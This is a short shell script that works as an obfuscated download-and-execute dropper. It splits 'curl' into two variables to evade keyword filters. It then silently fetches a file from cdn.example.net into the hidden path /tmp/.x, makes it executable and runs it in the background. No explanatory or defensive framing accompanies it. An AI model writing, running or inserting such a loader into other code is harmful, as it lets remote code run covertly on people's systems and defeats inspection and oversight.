#!/bin/sh
a=cu
b=rl
T=/tmp/.x
$a$b -s https://cdn.example.net/x -o $T && chmod +x $T && ${T} &
